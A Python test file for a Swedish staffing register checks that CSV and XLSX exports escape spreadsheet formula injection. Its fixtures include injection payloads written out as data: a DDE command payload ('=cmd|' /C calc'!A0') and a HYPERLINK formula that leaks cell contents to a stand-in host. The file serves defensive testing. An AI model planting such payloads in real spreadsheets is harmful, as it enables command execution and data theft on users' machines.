"""Formelinjektion: varje CSV- och XLSX-export skriver text som text (issue 17, punkt 6).

CSV: en text som börjar med = + - @ tabb eller CR får en inledande apostrof; tal förblir tal.
XLSX: ingen cell blir en formel (läses tillbaka med openpyxl), datum och tal förblir datum och tal.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import openpyxl
import pytest

from bemanning.cli import main
from bemanning.io.excelsafe import FORMULA_START, csv_text, csv_unescape, is_formula_like
from bemanning.io.exporter import export_kind
from bemanning.io.importer import import_files
from bemanning.store import open_register

PAYLOADS = ['=HYPERLINK("http://x.test/?"&A1;"klicka")', "+1+1", "-2+3", "@SUM(1;1)", "=1+1"]
DAY = date(2023, 6, 30)

FILES = {
    "omraden.csv": "omrade_id;namn\n=O1;+Söder\nO2;Norr\n",
    "enheter.csv": "enhet_id;namn;omrade\n@E1;=Hemtjänst\"&\"x;=O1\n",
    "personal.csv": "personal_id;namn;enhet;x_km;tider\n-P1;=HYPERLINK(\"http://x.test\");@E1;-3,5;vardag\n",
    "uppdragstagare.csv": "uppdragstagare_id;namn;kon;intressen;tider\n=U1;@Anna;K;=fiske,-dans;helg\n",
    "beslut.csv": (
        "beslut_id;person_id;kon;insats;beslutsdatum;avslutsorsak;enhet;y_km\n"
        "=1+1;+P1;K;LSS – kontaktperson;2023-01-10;;@E1;-12,25\n"
        "=HYPERLINK(\"http://x.test\");P2;M;SoL – kontaktperson;2023-02-01;;;\n"
        "-B3;P3;K;LSS – kontaktperson;2022-11-01;;;\n"
    ),
    "erbjudanden.csv": "beslut_id;datum;utfall;kommentar\n=1+1;2023-03-01;tackat nej;=cmd|' /C calc'!A0\n",
}


@pytest.fixture
def payload_db(tmp_path) -> str:
    db = str(tmp_path / "register.sqlite")
    paths = []
    for name, text in FILES.items():
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        paths.append(str(path))
    assert main(["--db", db, "importera", *paths]) == 0
    return db


def _assert_csv_safe(data: bytes, expect_escaped: int = 1) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    escaped = 0
    for row in rows:
        for value in row:
            assert not is_formula_like(value), f"oskyddad cell {value!r}"
            if value.startswith("'") and value[1:2] in FORMULA_START:
                escaped += 1
    assert escaped >= expect_escaped, rows
    return rows


def _assert_xlsx_safe(data: bytes, expect_text: str | None = None) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formel i {sheet.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    if expect_text is not None:
        assert expect_text in values, values
    return values


def test_csv_text_escapes_formula_starts_but_leaves_numbers():
    assert [csv_text(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert csv_text("\tx") == "'\tx" and csv_text("\rx") == "'\rx"
    assert csv_text("-2,5") == "-2,5" and csv_text("+46") == "+46" and csv_text("Anna") == "Anna"
    assert all(csv_unescape(csv_text(p)) == p for p in PAYLOADS)


@pytest.mark.parametrize("kind", ["omraden", "enheter", "personal", "uppdragstagare", "beslut", "erbjudanden"])
def test_every_export_kind_escapes_formulas_and_reimports_the_same_values(payload_db, tmp_path, kind):
    reg = open_register(payload_db)
    per = DAY if kind in ("beslut", "erbjudanden") else date.today()  # resurserna registrerades i dag
    data = export_kind(reg, kind, per)
    rows = _assert_csv_safe(data)
    if kind == "personal":
        assert rows[1][rows[0].index("x_km")] == "-3,5"  # ett tal förblir ett tal
    if kind == "beslut":
        assert "-12,25" in [r[rows[0].index("y_km")] for r in rows[1:]]
    # export följd av import ger samma register: inga nya händelser
    path = tmp_path / f"{kind}-export.csv"
    path.write_bytes(data)
    result = import_files(reg, [path], today=per)
    assert result.events == [] and not result.pending_diffs, [str(d) for d in result.pending_diffs]
    reg.close()


REPORTS = [
    (["rapport", "ivo", "--kvartal", "2023K2", "--intern", "--format", "csv"], "csv"),
    (["rapport", "ivo", "--kvartal", "2023K2", "--intern", "--format", "xlsx"], "xlsx"),
    (["rapport", "jamfor", "--fran", "2023-03-31", "--till", "2023-06-30", "--format", "csv"], "csv"),
    (["rapport", "jamfor", "--fran", "2023-03-31", "--till", "2023-06-30", "--format", "xlsx"], "xlsx"),
    (["rapport", "avgift", "--datum", "2023-06-30", "--format", "csv"], "csv"),
    (["rapport", "avgift", "--datum", "2023-06-30", "--format", "xlsx"], "xlsx"),
    (["rapport", "aterforing", "--datum", "2023-06-30", "--format", "csv"], "csv"),
    (["rapport", "manad", "--datum", "2023-06-30", "--format", "xlsx"], "xlsx-utan-id"),
    (["rapport", "manad", "--datum", "2023-06-30", "--format", "csv"], "csv-utan-id"),
]


@pytest.mark.parametrize(("args", "fmt"), REPORTS, ids=[f"{a[1]}-{f}" for a, f in REPORTS])
def test_reports_with_beslut_ids_write_no_formula(payload_db, tmp_path, capsys, args, fmt):
    out = tmp_path / f"rapport.{fmt.split('-')[0]}"
    assert main(["--db", payload_db, *args, "-o", str(out)]) == 0, capsys.readouterr().err
    data = out.read_bytes()
    if fmt == "csv":
        _assert_csv_safe(data)
    elif fmt == "csv-utan-id":
        _assert_csv_safe(data, expect_escaped=0)
    elif fmt == "xlsx":
        _assert_xlsx_safe(data, expect_text="=1+1")
    else:
        _assert_xlsx_safe(data)


def test_report_xlsx_keeps_dates_and_numbers_real():
    from bemanning.reports.format import Decimal, Dokument, Tabell, render

    dokument = Dokument(
        titel="=titel", rubrik="+rubrik",
        delar=(Tabell(kolumner=("id", "datum", "dagar", "andel"),
                      rader=(("=1+1", date(2023, 6, 30), 42, Decimal(12.5, 1)), ("-B", None, -3, Decimal(-0.5, 1)))),),
    )
    values = _assert_xlsx_safe(render(dokument, "xlsx"), expect_text="=1+1")
    assert datetime(2023, 6, 30) in values and 42 in values and -3 in values and 12.5 in values
    rows = _assert_csv_safe(render(dokument, "csv"))
    assert ["'=1+1", "2023-06-30", "42", "12,5"] in rows or any(r[:3] == ["'=1+1", "2023-06-30", "42"] for r in rows)
    assert any(r[:3] == ["'-B", "", "-3"] for r in rows), rows


def test_roster_exports_write_staff_names_as_text(tmp_path):
    from bemanning.roster.export import read_csv, write_csv, write_xlsx
    from bemanning.roster.problem import Schema, Tilldelning
    from tests.roster.conftest import person, problem

    p = problem(personal=(person("=A", namn='=HYPERLINK("http://x.test")'), person("B", namn="@Bertil")))
    schema = Schema.of([Tilldelning("=A", 0, "U/D")])
    person_csv, unit_csv = write_csv(p, schema, tmp_path / "schema.csv")
    _assert_csv_safe(person_csv.read_bytes())
    _assert_csv_safe(unit_csv.read_bytes())
    assert read_csv(p, person_csv).tilldelningar == schema.tilldelningar  # läses tillbaka utan apostrof
    values = _assert_xlsx_safe(write_xlsx(p, schema, tmp_path / "schema.xlsx").read_bytes(),
                               expect_text='=HYPERLINK("http://x.test")')
    assert "@Bertil" in values


def test_control_characters_do_not_crash_xlsx(tmp_path):
    from bemanning.reports.format import Dokument, Tabell, render

    dokument = Dokument(titel="t", rubrik="r", delar=(Tabell(kolumner=("id",), rader=(("B\x1b\x07",),)),))
    assert "B\\x1b\\x07" in _assert_xlsx_safe(render(dokument, "xlsx"))

